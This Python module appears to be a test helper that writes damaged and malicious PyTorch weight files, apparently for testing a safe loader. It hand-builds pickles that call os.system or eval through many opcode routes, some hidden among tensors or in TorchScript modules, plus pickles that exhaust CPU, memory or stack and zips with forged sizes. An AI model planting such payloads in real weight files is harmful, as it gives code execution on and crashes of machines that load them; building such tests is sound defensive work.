"""Writes damaged and malicious weight files."""

import io
import pickle
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch

Change = Callable[[str, bytes], bytes]

# An extension code that a process could have registered for os.system.
EXTENSION = 240
_LEGACY_START = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})


def text(value: str) -> bytes:
    """Returns the instruction that pushes a short string on the stack."""
    return b"\x8c" + struct.pack("<B", len(value)) + value.encode()


def integer(value: int) -> bytes:
    """Returns the instruction that pushes an integer on the stack."""
    data = value.to_bytes(9, "little", signed=True)
    return b"\x8a" + struct.pack("<B", len(data)) + data


def program(body: bytes, protocol: int = 4) -> bytes:
    """Returns a pickle with these instructions."""
    return b"\x80" + bytes([protocol]) + body + b"."


def system_calls(command: str) -> dict[str, bytes]:
    """Returns pickles, by method, that run a command in an ordinary unpickler."""
    said = text(command)
    return {
        "global": program(b"cos\nsystem\n" + said + b"\x85R"),
        "stack global": program(text("os") + text("system") + b"\x93" + said + b"\x85R"),
        "inst": program(b"(" + said + b"ios\nsystem\n"),
        "obj": program(
            b"(cbuiltins\neval\n" + text(f"__import__('os').system({command!r})") + b"o"
        ),
        "build": program(
            b"cargparse\nNamespace\n)R}"
            + text("__setstate__")
            + text("os")
            + text("system")
            + b"\x93sb"
            + said
            + b"b"
        ),
        "extension": program(b"\x82" + bytes([EXTENSION]) + said + b"\x85R"),
        "among tensors": program(b"}" + text("w") + b"cposix\nsystem\n" + said + b"\x85Rs"),
        "in a module": program(
            b"c__torch__\nCLIP\n)\x81}" + text("w") + b"cos\nsystem\n" + said + b"\x85Rsb"
        ),
    }


def write(path: Path, data: bytes) -> Path:
    """Writes bytes."""
    path.write_bytes(data)
    return path


class Storage:
    """A storage of `elements` numbers, as torch describes it in a pickle."""

    def __init__(self, key: object = "0", elements: object = 4, kind: object = None) -> None:
        self.pid = ("storage", kind or torch.FloatStorage, key, "cpu", elements)


class Described:
    """A tensor with a description that tests choose."""

    def __init__(
        self, storage: object, offset: object = 0, shape: object = (4,), stride: object = (1,)
    ) -> None:
        self.arguments: tuple[object, ...] = (storage, offset, shape, stride, False, {})

    def __reduce__(self) -> tuple[Any, ...]:
        return torch._utils._rebuild_tensor_v2, self.arguments


class _Pickler(pickle.Pickler):
    def persistent_id(self, obj: object) -> object:
        return obj.pid if isinstance(obj, Storage) else None


def described(content: object, *, as_module: bool = False) -> bytes:
    """Returns the pickle of containers, `Described` tensors and `Storage`s.

    Args:
        content: The content of the pickle.
        as_module: Whether the content is a dict of the attributes of a TorchScript module.
    """
    stream = io.BytesIO()
    _Pickler(stream, protocol=2).dump(content)
    body = stream.getvalue()
    return b"\x80\x02c__torch__\nM\n)\x81" + body[2:-1] + b"b." if as_module else body


def write_zip(
    path: Path, entries: Mapping[str, bytes], compression: int = 0, level: int | None = None
) -> Path:
    """Writes a zip with these entries in the folder that torch would use."""
    with zipfile.ZipFile(path, "w", compression, compresslevel=level) as archive:
        for name, data in entries.items():
            archive.writestr(f"archive/{name}", data)
    return path


def write_archive(path: Path, pickled: bytes, **storages: bytes) -> Path:
    """Writes a TorchScript archive."""
    data = {f"data/{key.removeprefix('_')}": value for key, value in storages.items()}
    return write_zip(path, {"data.pkl": pickled, "constants.pkl": b"\x80\x02).", **data})


def write_state_dict(path: Path, pickled: bytes, **storages: bytes) -> Path:
    """Writes the zip that torch.save writes."""
    data = {f"data/{key.removeprefix('_')}": value for key, value in storages.items()}
    return write_zip(path, {"data.pkl": pickled, "version": b"3\n", **data})


def write_legacy(path: Path, pickled: bytes, *, system: bytes = b"", tail: bytes = b"") -> Path:
    """Writes the five pickles of an old torch.save. The fourth is the content."""
    magic, version, info = (pickle.dumps(part, 2) for part in _LEGACY_START)
    path.write_bytes(magic + version + (system or info) + pickled + (tail or pickle.dumps([], 2)))
    return path


def rewrite(source: Path, target: Path, change: Change, *, compression: int = 0) -> Path:
    """Copies a zip with changed entries and correct checksums and sizes."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", compression) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, change(entry.filename, old.read(entry)))
    return target


def change_pickle(source: Path, target: Path, change: Callable[[bytes], bytes]) -> Path:
    """Copies a zip with another data.pkl."""
    return rewrite(
        source,
        target,
        lambda name, data: change(data) if name.endswith("/data.pkl") else data,
    )


def without_pickle(source: Path) -> tuple[bytes, str, bytes]:
    """Returns a zip without its data.pkl, and the name and content of that entry."""
    stream = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(stream, "w") as new:
        (name,) = (name for name in old.namelist() if name.endswith("/data.pkl"))
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry.filename, old.read(entry))
        pickled = old.read(name)
    return stream.getvalue(), name, pickled


def write_with(path: Path, rest: bytes, name: str, data: bytes) -> Path:
    """Writes a zip and appends an entry, which is faster than to write all entries."""
    path.write_bytes(rest)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, data)
    return path


def claim_size(path: Path, name: str, size: int) -> Path:
    """Sets the uncompressed size of an entry in the directory of a zip."""
    data = bytearray(path.read_bytes())
    at = data.rindex(f"archive/{name}".encode()) - 46  # the directory comes last
    struct.pack_into("<I", data, at + 24, size)
    path.write_bytes(data)
    return path


def exponential_key() -> bytes:
    """Returns a few hundred bytes with a key that takes 2 ** 64 steps to hash."""
    return program(b"})q\x00" + b"h\x00h\x00\x86q\x00" * 64 + b"Ns", 2)


def deep_key(depth: int = 250_000) -> bytes:
    """Returns a key nested so deeply that hashing it overflows the stack."""
    return program(b"})" + b"\x85" * depth + b"Ns", 2)


def colliding_keys(count: int = 100_000) -> bytes:
    """Returns keys with equal hashes, so that each is compared with all earlier ones."""
    body = b"".join(
        b"\x8a\x0b" + (n * (2**61 - 1)).to_bytes(11, "little") + b"N" for n in range(1, count)
    )
    return program(b"}(" + body + b"u", 2)


def far_memo() -> bytes:
    """Returns a memo index so high that a table up to it takes gigabytes."""
    return program(b"Nr" + struct.pack("<I", 2**29), 2)


def repeated_copies(use: bytes, size: int = 500_000, times: int = 100_000) -> bytes:
    """Returns a long tuple that is used many times, where each use might copy it."""
    return program(b"ctorch\nSize\nq\x01(" + b"N" * size + b"tq\x00" + use * times, 2)


def wrapper_in_itself() -> bytes:
    """Returns a dictionary that contains itself as state dict."""
    return program(b"}q\x00" + text("model") + b"h\x00s", 4)


def module_in_itself() -> bytes:
    """Returns a module that has itself as a child, twice."""
    return program(
        b"c__torch__\nM\n)\x81q\x00}(" + text("a") + b"h\x00" + text("b") + b"h\x00ub", 4
    )


def exponential_modules(depth: int = 60) -> bytes:
    """Returns a tree of modules in which each node is its parent's child under two names."""
    node = b"c__torch__\nM\n)\x81}(" + text("a") + b"h\x00" + text("b") + b"h\x00ubq\x00"
    return program(b"Nq\x00" + node * depth, 4)
